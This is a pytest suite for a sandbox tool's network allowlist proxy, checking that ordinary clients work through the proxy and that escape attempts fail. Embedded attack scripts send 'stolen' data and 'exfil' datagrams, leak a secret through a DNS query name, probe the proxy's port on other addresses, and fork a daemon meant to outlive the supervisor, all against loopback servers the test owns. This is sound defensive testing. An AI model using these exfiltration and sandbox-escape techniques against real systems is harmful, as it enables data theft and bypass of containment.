"""The network allowlist, end to end: real servers on loopback, real sandboxes.

Every sandbox here is started with one allowed destination, ``127.0.0.1:PORT`` of a
local :class:`~net_servers.HttpOrigin`, so the proxy is running and the allowed path
demonstrably works in the same run (each attack script fetches it as a control).

Attack tests follow tests/test_attacks.py: the script runs plainly first and the
attack must *succeed* there — the evidence (a connection, a request, a datagram)
arrives at a server this test owns — and then under ``safe-run`` in both modes, where
the script must still finish (``DONE``) and nothing may arrive.  Evidence is what
reached the server, never what the client believed: an error raised after the bytes
left would otherwise pass for a block.

Utility tests check that ordinary clients (urllib, requests, httpx, pip) work through
the proxy unchanged, that large and concurrent transfers arrive intact, and that a
policy without hosts behaves exactly as before the allowlist existed.

The contract under test (docs/network.md): the sandbox sees ``HTTP_PROXY``,
``HTTPS_PROXY`` and ``ALL_PROXY`` = ``http://127.0.0.1:PORT`` and an empty
``NO_PROXY``; refusals through the proxy are HTTP 403; at exit safe-run prints
``safe-run: network: refused HOST:PORT ...`` on stderr, and with ``-v`` the allowed
destinations too.  Nothing here needs root.
"""

from __future__ import annotations

import importlib.util
import os
import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Protocol

import pytest
from net_servers import (
    HttpOrigin,
    TcpSink,
    UdpSink,
    dns_query_name,
    ipv6_loopback_available,
    pattern_sha256,
    tiny_wheel,
    wait_until,
)
from sandbox_harness import SAFE_RUN, World, make_world

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(not SAFE_RUN.exists(), reason="safe-run is not installed next to python"),
]

#: How long a plain run's evidence may lag behind the process's exit, and how long a
#: sandboxed run's absence of evidence is watched for.
EVIDENCE_WAIT = 5.0
ABSENCE_WAIT = 0.5
#: The large transfer: big enough to cross many proxy buffers, small enough for CI.
BIG_TRANSFER = 64 << 20
CONCURRENT = 16

needs_ipv6 = pytest.mark.skipif(not ipv6_loopback_available(), reason="::1 is unavailable")


class Evidence(Protocol):
    """Something a server recorded that shows an attack got through."""

    def seen(self) -> bool: ...

    def reset(self) -> None: ...


@dataclass
class OriginPath:
    """Evidence that a request for ``prefix`` reached ``origin``."""

    origin: HttpOrigin
    prefix: str

    def seen(self) -> bool:
        return self.origin.saw(self.prefix)

    def reset(self) -> None:
        self.origin.reset()


@pytest.fixture
def world(tmp_path: Path) -> World:
    return make_world(tmp_path)


@pytest.fixture
def origin() -> Iterator[HttpOrigin]:
    """The one allowed destination of every sandbox in this file."""
    with HttpOrigin() as server:
        yield server


def allow(origin: HttpOrigin) -> tuple[str, ...]:
    return ("--allow-host", origin.authority)


def network_lines(stderr: str) -> list[str]:
    """safe-run's exit report lines about the network."""
    return [line for line in stderr.splitlines() if line.startswith("safe-run: network:")]


def report_line(stderr: str, verdict: str, authority: str) -> str | None:
    """The exit report line ``safe-run: network: VERDICT HOST:PORT...``, if any."""
    # The authority as a whole token: "127.0.0.1:80" must not match "127.0.0.1:8000"
    # (the report may put a colon right after it: "refused HOST:PORT: why").
    pattern = re.compile(rf"(?<![\w.:\[]){re.escape(authority)}(?!\w)")
    for line in network_lines(stderr):
        rest = line.removeprefix("safe-run: network:").strip()
        if rest.startswith(verdict + " ") and pattern.search(rest):
            return line
    return None


def refused_line(stderr: str, authority: str) -> str | None:
    return report_line(stderr, "refused", authority)


#: Every attack script starts with this: argv[1] is the allowed origin's port, and
#: ``control()`` fetches it the way any client would (plainly: directly; sandboxed:
#: through the proxy named in HTTP_PROXY), proving the sandboxed run had a working
#: network path while its attack failed.
PRELUDE = """\
import os, socket, struct, sys, urllib.error, urllib.parse, urllib.request
ALLOWED = int(sys.argv[1])

def control():
    try:
        url = f"http://127.0.0.1:{ALLOWED}/hello"
        with urllib.request.urlopen(url, timeout=10) as response:
            print("CONTROL", response.status, response.read().decode().strip())
    except Exception as exc:
        print("CONTROL failed", type(exc).__name__, exc)
"""

EPILOGUE = """
control()
print("DONE")
"""


def attack_script(body: str) -> str:
    return PRELUDE + body + EPILOGUE


def prove_blocked(
    world: World,
    mode: str,
    origin: HttpOrigin,
    body: str,
    *args: str,
    evidence: Evidence,
    flags: tuple[str, ...] = (),
) -> subprocess.CompletedProcess[str]:
    """Run the attack plainly (it must get through) and sandboxed (it must not).

    Returns the sandboxed run so callers can check its messages.
    """
    script = world.write_script(attack_script(body))
    plain = world.run_plain(script, str(origin.port), *args)
    assert "DONE" in plain.stdout, plain.stdout + plain.stderr
    assert wait_until(evidence.seen, EVIDENCE_WAIT), (
        f"the attack does not work without the sandbox:\n{plain.stdout}{plain.stderr}"
    )
    assert "CONTROL 200" in plain.stdout, plain.stdout
    evidence.reset()
    origin.reset()

    boxed = world.run_safe(mode, str(script), str(origin.port), *args, flags=allow(origin) + flags)
    assert "DONE" in boxed.stdout, (
        f"script did not run in the sandbox:\n{boxed.stdout}{boxed.stderr}"
    )
    assert boxed.returncode == 0, boxed.stdout + boxed.stderr
    assert not wait_until(evidence.seen, ABSENCE_WAIT), (
        f"the attack got through the sandbox:\n{boxed.stdout}{boxed.stderr}"
    )
    assert "CONTROL 200" in boxed.stdout, (
        f"the allowed origin was not reachable through the proxy:\n{boxed.stdout}{boxed.stderr}"
    )
    return boxed


# --- attacks: direct connections -------------------------------------------------------

CONNECT_AND_SEND = """
host, port = sys.argv[2], int(sys.argv[3])
family = socket.AF_INET6 if ":" in host else socket.AF_INET
try:
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect((host, port))
        s.sendall(b"GET /direct HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
        s.recv(100)
    print("LEAK connected")
except OSError as exc:
    print("BLOCKED", type(exc).__name__, exc)
"""


def test_direct_connect_to_other_port(world: World, mode: str, origin: HttpOrigin) -> None:
    with TcpSink() as sink:
        boxed = prove_blocked(
            world, mode, origin, CONNECT_AND_SEND, sink.host, str(sink.port), evidence=sink
        )
    assert "BLOCKED" in boxed.stdout


@needs_ipv6
def test_direct_connect_ipv6_loopback(world: World, mode: str, origin: HttpOrigin) -> None:
    with TcpSink("::1") as sink:
        boxed = prove_blocked(
            world, mode, origin, CONNECT_AND_SEND, sink.host, str(sink.port), evidence=sink
        )
    assert "BLOCKED" in boxed.stdout


def test_direct_connect_to_the_allowed_origin_bypassing_the_proxy(
    world: World, mode: str, origin: HttpOrigin
) -> None:
    """Allowed means "through the proxy": a direct connection to the very destination
    that is allowed still fails, so nothing can skip the proxy's checks and log."""
    boxed = prove_blocked(
        world,
        mode,
        origin,
        CONNECT_AND_SEND,
        "127.0.0.1",
        str(origin.port),
        evidence=OriginPath(origin, "/direct"),
    )
    assert "BLOCKED" in boxed.stdout


# --- attacks: through the proxy --------------------------------------------------------

POST_URL = """
url = sys.argv[2]
try:
    with urllib.request.urlopen(url, data=b"stolen=1", timeout=5) as response:
        print("LEAK", response.status)
except urllib.error.HTTPError as exc:
    print("BLOCKED http", exc.code)
except OSError as exc:
    print("BLOCKED", type(exc).__name__, exc)
"""


def test_proxy_refuses_other_port_http(world: World, mode: str, origin: HttpOrigin) -> None:
    with HttpOrigin() as attacker:
        boxed = prove_blocked(
            world,
            mode,
            origin,
            POST_URL,
            attacker.url("/exfil"),
            evidence=OriginPath(attacker, "/exfil"),
        )
        authority = attacker.authority
    assert "BLOCKED http 403" in boxed.stdout, boxed.stdout
    assert refused_line(boxed.stderr, authority), boxed.stderr


def test_proxy_refuses_other_port_connect(world: World, mode: str, origin: HttpOrigin) -> None:
    """https:// makes urllib tunnel with CONNECT; the tunnel itself must be refused."""
    with TcpSink(idle_timeout=0.5) as sink:
        boxed = prove_blocked(
            world, mode, origin, POST_URL, f"https://{sink.authority}/exfil", evidence=sink
        )
        authority = sink.authority
    assert "BLOCKED" in boxed.stdout and "403" in boxed.stdout, boxed.stdout
    assert refused_line(boxed.stderr, authority), boxed.stderr


def loopback_alias() -> str | None:
    """A name from /etc/hosts, other than localhost, that maps to a loopback address."""
    try:
        lines = Path("/etc/hosts").read_text(encoding="utf-8", errors="replace").splitlines()
    except OSError:
        return None
    for line in lines:
        fields = line.split("#", 1)[0].split()
        if len(fields) < 2 or not fields[0].startswith("127."):
            continue
        for name in fields[1:]:
            plain = name.replace("-", "").replace(".", "")
            if not name.startswith("localhost") and plain.isalnum() and plain.isascii():
                return name.lower()
    return None


def test_allowed_name_resolving_to_loopback_is_refused(
    world: World, mode: str, origin: HttpOrigin
) -> None:
    """DNS rebinding defence: a name rule never reaches an internal address; only an
    IP-literal rule (or ``localhost``) does."""
    alias = loopback_alias()
    if alias is None:
        pytest.skip("/etc/hosts names no loopback alias besides localhost")
    url = f"http://{alias}:{origin.port}/via-alias"
    script = world.write_script(attack_script(POST_URL))
    evidence = OriginPath(origin, "/via-alias")
    plain = world.run_plain(script, str(origin.port), url)
    assert wait_until(evidence.seen, EVIDENCE_WAIT), plain.stdout + plain.stderr
    origin.reset()
    boxed = world.run_safe(
        mode,
        str(script),
        str(origin.port),
        url,
        flags=("--allow-host", f"{alias}:{origin.port}"),
    )
    assert "DONE" in boxed.stdout, boxed.stdout + boxed.stderr
    assert not wait_until(evidence.seen, ABSENCE_WAIT), boxed.stdout
    assert "BLOCKED http 403" in boxed.stdout, boxed.stdout
    assert refused_line(boxed.stderr, f"{alias}:{origin.port}"), boxed.stderr


# --- attacks: UDP and DNS --------------------------------------------------------------

UDP_SEND = """
port = int(sys.argv[2])
for how in ("sendto", "connect+send"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            if how == "sendto":
                s.sendto(b"exfil " + sys.argv[3].encode(), ("127.0.0.1", port))
            else:
                s.connect(("127.0.0.1", port))
                s.send(b"exfil " + sys.argv[3].encode())
        print("SENT", how)
    except OSError as exc:
        print("BLOCKED", how, exc)
"""


def test_udp_send(world: World, mode: str, origin: HttpOrigin) -> None:
    marker = "marker-" + os.urandom(4).hex()
    with UdpSink() as sink:
        prove_blocked(world, mode, origin, UDP_SEND, str(sink.port), marker, evidence=sink)


DNS_QUERY = """
def query(name):
    header = struct.pack("!HHHHHH", 0x5AFE, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return header + labels + b"\\0" + struct.pack("!HH", 1, 1)

try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(query(sys.argv[3]), ("127.0.0.1", int(sys.argv[2])))
    print("SENT query")
except OSError as exc:
    print("BLOCKED", exc)
"""


def test_dns_query_to_outside_resolver(world: World, mode: str, origin: HttpOrigin) -> None:
    """A DNS query for ``<secret>.attacker.example`` is exfiltration through any
    resolver that forwards it; the UDP sink stands in for that resolver."""
    name = f"s{os.urandom(6).hex()}.exfil.example"
    with UdpSink() as sink:
        script = world.write_script(attack_script(DNS_QUERY))
        world.run_plain(script, str(origin.port), str(sink.port), name)
        assert wait_until(sink.seen, EVIDENCE_WAIT)
        assert [dns_query_name(packet) for packet in sink.datagrams] == [name]
        sink.reset()
        prove_blocked(world, mode, origin, DNS_QUERY, str(sink.port), name, evidence=sink)


# --- attacks: the proxy's port on another address --------------------------------------

PROXY_PORT_ELSEWHERE = """
port = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", "")).port
print("PORT", port, flush=True)
sys.stdin.readline()
host = sys.argv[2]
family = socket.AF_INET6 if ":" in host else socket.AF_INET
try:
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect((host, port))
        s.sendall(b"exfil via the proxy's port number")
    print("LEAK connected")
except OSError as exc:
    print("BLOCKED", type(exc).__name__, exc)
"""


def _run_waiting_for_port(
    argv: list[str],
    env: dict[str, str],
    cwd: Path,
    bind_host: str,
    stack: ExitStack,
    expected_port: int | None = None,
) -> tuple[subprocess.CompletedProcess[str], TcpSink]:
    """Start the script, read the port it prints, bind a sink there, let it go on.

    The sink is entered on ``stack`` so it outlives this call: its evidence is read
    after the script has exited.
    """
    proc = subprocess.Popen(
        argv,
        cwd=cwd,
        env=env,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    killer = threading.Timer(60, proc.kill)  # readline() below has no timeout of its own
    killer.start()
    try:
        assert proc.stdout is not None and proc.stdin is not None
        first = proc.stdout.readline()
        words = first.split()
        if len(words) != 2 or words[0] != "PORT" or not words[1].isdigit():
            out, err = proc.communicate(timeout=60)
            pytest.fail(f"the script did not report a port:\n{first}{out}{err}")
        port = int(words[1])
        if expected_port is not None:
            assert port == expected_port
        try:
            sink = stack.enter_context(TcpSink(bind_host, port))
        except OSError as exc:
            proc.kill()
            proc.communicate()
            pytest.fail(f"cannot bind the sink at {bind_host} port {port}: {exc}")
        proc.stdin.write("go\n")
        proc.stdin.flush()
        out, err = proc.communicate(timeout=60)
    finally:
        killer.cancel()
    return subprocess.CompletedProcess(argv, proc.returncode, first + out, err), sink


def _free_port(host: str) -> int:
    """A port that is free on ``host`` right now (bound, read, released)."""
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as probe:
        probe.bind((host, 0))
        return int(probe.getsockname()[1])


@pytest.mark.parametrize(
    ("connect_to", "bind_host"),
    [
        pytest.param("127.0.0.2", "127.0.0.2", id="127.0.0.2"),
        pytest.param("::ffff:127.0.0.2", "127.0.0.2", id="v4-mapped", marks=needs_ipv6),
        pytest.param("::1", "::1", id="ipv6", marks=needs_ipv6),
    ],
)
def test_proxy_port_on_another_loopback_address(
    world: World, mode: str, origin: HttpOrigin, connect_to: str, bind_host: str
) -> None:
    """Landlock filters TCP connects by port only: in fallback mode the proxy's port
    number is open on *every* address unless the supervisor checks the address too.
    An attacker's server listening on that port elsewhere must stay unreachable."""
    script = world.write_script(attack_script(PROXY_PORT_ELSEWHERE))
    args = [str(script), str(origin.port), connect_to]

    # Plainly, with a fake proxy variable naming a port this test then listens on.
    fake_port = _free_port(bind_host)
    env = world.env(None, HTTPS_PROXY=f"http://127.0.0.1:{fake_port}")
    with ExitStack() as stack:
        plain, sink = _run_waiting_for_port(
            [sys.executable, *args], env, world.project, bind_host, stack, fake_port
        )
        assert wait_until(sink.seen, EVIDENCE_WAIT), plain.stdout + plain.stderr
    assert "DONE" in plain.stdout and "LEAK connected" in plain.stdout, plain.stdout

    # Sandboxed: the port is the real proxy's, read inside the sandbox.
    with ExitStack() as stack:
        boxed, sink = _run_waiting_for_port(
            world.safe_run_argv(*args, flags=allow(origin)),
            world.env(mode),
            world.project,
            bind_host,
            stack,
        )
        assert "DONE" in boxed.stdout, boxed.stdout + boxed.stderr
        assert not wait_until(sink.seen, ABSENCE_WAIT), boxed.stdout + boxed.stderr
    assert "BLOCKED" in boxed.stdout, boxed.stdout
    assert "CONTROL 200" in boxed.stdout, boxed.stdout + boxed.stderr


# --- utility: what is allowed works ----------------------------------------------------

URLLIB_GET = """
import os, sys, urllib.request
names = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY")
print("ENV", " ".join(f"{name}={os.environ.get(name, '<unset>')}" for name in names))
with urllib.request.urlopen(sys.argv[1], timeout=30) as response:
    print("STATUS", response.status, response.read().decode().strip())
"""


@pytest.mark.parametrize("where", ["command-line", "pyproject"])
def test_urllib_get_through_proxy(
    tmp_path: Path, mode: str, origin: HttpOrigin, where: str
) -> None:
    flags: tuple[str, ...] = ()
    if where == "pyproject":
        policy = f'[tool.safe-run.network]\nallow = ["{origin.authority}"]\n'
        world = make_world(tmp_path, policy)
    else:
        world, flags = make_world(tmp_path), allow(origin)
    script = world.write_script(URLLIB_GET, "get.py")
    out = world.run_safe(mode, str(script), origin.url("/hello"), flags=flags)
    assert out.returncode == 0, out.stdout + out.stderr
    assert "STATUS 200 hello from the origin" in out.stdout
    env_line = next(line for line in out.stdout.splitlines() if line.startswith("ENV "))
    proxy = env_line.split()[1].split("=", 1)[1]
    assert proxy.startswith("http://127.0.0.1:"), env_line
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
        assert f"{name}={proxy}" in env_line
    assert "NO_PROXY= " in env_line + " ", "NO_PROXY must be set and empty"
    assert origin.paths() == ["/hello"]
    assert not [line for line in network_lines(out.stderr) if "refused" in line], out.stderr


THIRD_PARTY_GET = """
import sys
client, url = sys.argv[1], sys.argv[2]
if client == "requests":
    import requests
    response = requests.get(url, timeout=30)
    print("STATUS", response.status_code, response.text.strip())
elif client == "httpx":
    import httpx
    response = httpx.get(url, timeout=30)
    print("STATUS", response.status_code, response.text.strip())
else:
    import asyncio, aiohttp

    async def main():
        async with aiohttp.ClientSession(trust_env=True) as session:
            async with session.get(url) as response:
                print("STATUS", response.status, (await response.text()).strip())

    asyncio.run(main())
"""


@pytest.mark.parametrize("client", ["requests", "httpx", "aiohttp"])
def test_third_party_clients_through_proxy(
    world: World, mode: str, origin: HttpOrigin, client: str
) -> None:
    if importlib.util.find_spec(client) is None:
        pytest.skip(f"{client} is not installed (it is in the 'test' extra)")
    script = world.write_script(THIRD_PARTY_GET, "get.py")
    out = world.run_safe(mode, str(script), client, origin.url("/hello"), flags=allow(origin))
    assert out.returncode == 0, out.stdout + out.stderr
    assert "STATUS 200 hello from the origin" in out.stdout
    assert origin.paths() == ["/hello"]


def test_pip_download_through_proxy(world: World, mode: str, origin: HttpOrigin) -> None:
    if importlib.util.find_spec("pip") is None:
        pytest.skip("pip is not installed (it is in the 'test' extra)")
    downloads = world.root / "downloads"
    downloads.mkdir()
    out = world.run_safe(
        mode,
        "-m",
        "pip",
        "download",
        "--no-deps",
        "--disable-pip-version-check",
        "-d",
        str(downloads),
        "--index-url",
        origin.index_url,
        "tinypkg",
        # No --allow-read for editable installs' source trees: the launcher grants the
        # directories the venv's *.pth files name (fallback mode would answer EACCES).
        flags=(*allow(origin), "--allow-write", str(downloads)),
        timeout=120,
    )
    assert out.returncode == 0, out.stdout + out.stderr
    wheel = tiny_wheel()
    assert (downloads / wheel.filename).read_bytes() == wheel.data
    assert "/simple/tinypkg/" in origin.paths()
    assert f"/files/{wheel.filename}" in origin.paths()


BIG_GET = """
import hashlib, http.client, os, sys, urllib.parse, urllib.request
via, port, size = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
path = f"/bytes/{size}"
if via == "http-proxy":
    response = urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=60)
else:
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    connection = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=60)
    connection.set_tunnel("127.0.0.1", port)
    connection.request("GET", path)
    response = connection.getresponse()
digest, total = hashlib.sha256(), 0
while chunk := response.read(1 << 20):
    digest.update(chunk)
    total += len(chunk)
print("GOT", total, digest.hexdigest(), response.headers["X-Sha256"])
"""


@pytest.mark.parametrize("via", ["http-proxy", "connect"])
def test_large_transfer_is_intact(world: World, mode: str, origin: HttpOrigin, via: str) -> None:
    script = world.write_script(BIG_GET, "big.py")
    expected = pattern_sha256(BIG_TRANSFER)
    out = world.run_safe(
        mode, str(script), via, str(origin.port), str(BIG_TRANSFER), flags=allow(origin)
    )
    assert out.returncode == 0, out.stdout + out.stderr
    assert f"GOT {BIG_TRANSFER} {expected} {expected}" in out.stdout, out.stdout


CONCURRENT_GET = """
import sys, urllib.request
from concurrent.futures import ThreadPoolExecutor
port, count = int(sys.argv[1]), int(sys.argv[2])

def fetch(index):
    url = f"http://127.0.0.1:{port}/delay/300?i={index}"
    with urllib.request.urlopen(url, timeout=30) as response:
        return response.status

with ThreadPoolExecutor(count) as pool:
    statuses = list(pool.map(fetch, range(count)))
print("STATUSES", sorted(set(statuses)), len(statuses))
"""


def test_concurrent_requests(world: World, mode: str, origin: HttpOrigin) -> None:
    script = world.write_script(CONCURRENT_GET, "many.py")
    out = world.run_safe(mode, str(script), str(origin.port), str(CONCURRENT), flags=allow(origin))
    assert out.returncode == 0, out.stdout + out.stderr
    assert f"STATUSES [200] {CONCURRENT}" in out.stdout
    assert sorted(origin.paths()) == sorted(f"/delay/300?i={i}" for i in range(CONCURRENT))
    # A proxy that handled one connection at a time would never overlap two requests.
    assert origin.max_in_flight >= 2, origin.max_in_flight


def test_verbose_lists_allowed_destinations(world: World, mode: str, origin: HttpOrigin) -> None:
    script = world.write_script(URLLIB_GET, "get.py")
    quiet = world.run_safe(mode, str(script), origin.url("/hello"), flags=allow(origin))
    assert quiet.returncode == 0, quiet.stdout + quiet.stderr
    assert not network_lines(quiet.stderr), "allowed destinations are listed only with -v"
    loud = world.run_safe(mode, str(script), origin.url("/hello"), flags=("-v", *allow(origin)))
    assert loud.returncode == 0, loud.stdout + loud.stderr
    assert report_line(loud.stderr, "allowed", origin.authority), loud.stderr
    assert not refused_line(loud.stderr, origin.authority), loud.stderr


# --- no hosts: the network is off, as before -------------------------------------------

NO_NETWORK = """
import os, socket, sys, urllib.request
port = int(sys.argv[1])
proxies = sorted(k for k in os.environ if k.lower() in ("http_proxy", "https_proxy", "all_proxy"))
print("PROXY-VARS", proxies)
try:
    socket.create_connection(("127.0.0.1", port), timeout=5).close()
    print("LEAK direct")
except OSError as exc:
    print("BLOCKED direct", exc)
try:
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/hello", timeout=5) as response:
        print("LEAK urllib", response.status)
except OSError as exc:
    print("BLOCKED urllib", exc)
print("DONE")
"""


@pytest.mark.parametrize("how", ["default", "--no-network", "profile-after-allow"])
def test_without_hosts_there_is_no_network(
    tmp_path: Path, mode: str, origin: HttpOrigin, how: str
) -> None:
    """No allowed host (the default, ``--no-network``, or ``--profile network-none``
    over a pyproject that allows the origin): no proxy, no variables, no report."""
    flags: tuple[str, ...] = ()
    if how == "profile-after-allow":
        policy = f'[tool.safe-run.network]\nallow = ["{origin.authority}"]\n'
        world, flags = make_world(tmp_path, policy), ("--profile", "network-none")
    else:
        world = make_world(tmp_path)
        if how == "--no-network":
            flags = ("--no-network",)
    script = world.write_script(NO_NETWORK, "nonet.py")
    plain = world.run_plain(script, str(origin.port))
    assert "LEAK direct" in plain.stdout and "LEAK urllib" in plain.stdout, plain.stdout
    origin.reset()
    out = world.run_safe(mode, str(script), str(origin.port), flags=flags)
    assert out.returncode == 0, out.stdout + out.stderr
    assert "DONE" in out.stdout and "LEAK" not in out.stdout, out.stdout
    assert "PROXY-VARS []" in out.stdout, "no proxy without allowed hosts"
    assert not network_lines(out.stderr), out.stderr
    assert not wait_until(lambda: bool(origin.requests), ABSENCE_WAIT)


def test_no_network_with_allow_host_is_an_error(world: World, mode: str) -> None:
    script = world.write_script("print('ran')\n", "x.py")
    out = world.run_safe(
        mode, str(script), flags=("--no-network", "--allow-host", "127.0.0.1:8000")
    )
    assert out.returncode == 125
    assert "ran" not in out.stdout
    assert "--no-network" in out.stderr and "--allow-host" in out.stderr


def test_sink_records_a_connection() -> None:
    """The evidence helper itself: a connection is recorded with its bytes, and reset
    forgets it (a sink that never saw anything would pass every sandboxed half)."""
    with TcpSink() as sink:
        with socket.create_connection((sink.host, sink.port)) as client:
            client.sendall(b"ping")
        assert wait_until(lambda: sink.received == b"ping", EVIDENCE_WAIT)
        sink.reset()
        assert not sink.seen()


def test_local_index_serves_pip_plainly(tmp_path: Path, origin: HttpOrigin) -> None:
    """The test index is real enough for pip: without any sandbox, pip downloads the
    hand-built wheel and checks its hash, so a sandboxed failure is the sandbox's."""
    if importlib.util.find_spec("pip") is None:
        pytest.skip("pip is not installed (it is in the 'test' extra)")
    out = subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "download",
            "--no-deps",
            "--disable-pip-version-check",
            "-d",
            str(tmp_path),
            "--index-url",
            origin.index_url,
            "tinypkg",
        ],
        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path)},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert out.returncode == 0, out.stdout + out.stderr
    assert (tmp_path / tiny_wheel().filename).read_bytes() == tiny_wheel().data


# --- robustness: the supervisor dies ---------------------------------------------------

SURVIVOR = """
import os, socket, sys, time
proxy_port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
sink_port, log_path = int(sys.argv[1]), sys.argv[2]

def attempt(port):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2):
            return "connected"
    except OSError as exc:
        return type(exc).__name__

if os.fork() == 0:  # a daemon: its own session, outliving its parent
    os.setsid()
    if os.fork() == 0:
        # Opened once: with the supervisor gone, no new file can be opened for
        # writing (the broker that writes for the sandbox is gone too).
        log = open(log_path, "a", buffering=1)
        while True:
            log.write(f"{time.time()} {attempt(proxy_port)} {attempt(sink_port)}\\n")
            time.sleep(0.05)
    os._exit(0)
print("READY", proxy_port, flush=True)
time.sleep(60)
"""


def _stopped_growing(log: Path) -> bool:
    """Whether nobody appends to ``log`` any more (the writer beats every 50 ms)."""
    size = log.stat().st_size
    time.sleep(0.5)
    return log.stat().st_size == size


def test_killing_the_supervisor_takes_the_network_away(
    world: World, mode: str, origin: HttpOrigin
) -> None:
    """SIGKILL the supervisor: a daemon the sandbox started must not keep a way out --
    it dies with the run (in both modes), so nothing reaches a server, not even one
    that an attacker binds on the freed proxy port."""
    # In data/: fallback mode cannot create files right next to the protected pyproject.
    log = world.project / "data" / "attempts.log"
    script = world.write_script(SURVIVOR, "survivor.py")
    with TcpSink() as sink:
        argv = world.safe_run_argv(
            str(script),
            str(sink.port),
            str(log),
            flags=(*allow(origin), "--allow-write", str(log.parent)),
        )
        proc = subprocess.Popen(
            argv,
            cwd=world.project,
            env=world.env(mode),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        try:
            assert proc.stdout is not None
            ready = proc.stdout.readline()
            assert ready.startswith("READY"), ready + proc.stderr.read()  # type: ignore[union-attr]
            proxy_port = int(ready.split()[1])
            assert wait_until(lambda: log.exists() and log.read_text().count("\n") >= 2, 10)
            before = log.read_text().splitlines()
            assert all(line.split()[1] == "connected" for line in before), before
            proc.kill()
            proc.wait(timeout=10)
            killed_at = time.time()
            # The attacker takes over the freed port number on the host's loopback.
            with TcpSink("127.0.0.1", proxy_port) as squatter:
                # Nothing survives to try: the pid namespace is gone (namespace mode),
                # the broker kills every descendant when its parent dies (fallback
                # mode) -- on a loaded machine that may take a moment.
                assert wait_until(lambda: _stopped_growing(log), 20), "the daemon lives on"
                after = [
                    line.split()
                    for line in log.read_text().splitlines()
                    if float(line.split()[0]) > killed_at
                ]
                assert not squatter.seen(), after
            assert not sink.seen()
            assert all(fields[1] != "connected" and fields[2] != "connected" for fields in after)
        finally:
            proc.kill()
            subprocess.run(["pkill", "-KILL", "-f", str(script)], check=False)


# --- utility: SOCKS5 on the same port ------------------------------------------------

SOCKS5_GET = """
import os, socket, struct, sys
proxy_port = int(os.environ["ALL_PROXY"].rsplit(":", 1)[1])

def fetch(port):
    with socket.create_connection(("127.0.0.1", proxy_port), timeout=10) as s:
        s.sendall(b"\\x05\\x01\\x00")
        assert s.recv(2) == b"\\x05\\x00"
        s.sendall(b"\\x05\\x01\\x00\\x01" + socket.inet_aton("127.0.0.1") + struct.pack("!H", port))
        reply = s.recv(10)
        if reply[1] != 0:
            return f"REFUSED code {reply[1]}"
        s.sendall(b"GET /hello HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
        data = b""
        while chunk := s.recv(65536):
            data += chunk
        return data.split(b"\\r\\n", 1)[0].decode()

print("ALLOWED", fetch(int(sys.argv[1])))
print("OTHER", fetch(int(sys.argv[2])))
"""


def test_socks5_on_the_proxy_port(world: World, mode: str, origin: HttpOrigin) -> None:
    """Tools that speak only SOCKS5 use the same port; the same rules apply."""
    with HttpOrigin() as other:
        script = world.write_script(SOCKS5_GET, "socks.py")
        out = world.run_safe(
            mode, str(script), str(origin.port), str(other.port), flags=allow(origin)
        )
        assert out.returncode == 0, out.stdout + out.stderr
        assert "ALLOWED HTTP/1.1 200" in out.stdout, out.stdout + out.stderr
        assert "OTHER REFUSED code 2" in out.stdout, out.stdout  # "not allowed by ruleset"
        assert other.paths() == []
        assert refused_line(out.stderr, f"127.0.0.1:{other.port}") is not None, out.stderr


def test_fallback_mode_warns_what_is_weaker(world: World, mode: str, origin: HttpOrigin) -> None:
    script = world.write_script(URLLIB_GET, "get.py")
    out = world.run_safe(mode, str(script), origin.url("/hello"), flags=allow(origin))
    assert out.returncode == 0, out.stdout + out.stderr
    warned = "safe-run: warning: no user namespaces here" in out.stderr
    assert warned == (mode == "fallback"), out.stderr
    explain = world.run_safe(mode, "--explain", str(script), flags=allow(origin))
    assert "# network: allowlist through the proxy" in explain.stdout
    assert ("(fallback)" in explain.stdout) == (mode == "fallback"), explain.stdout
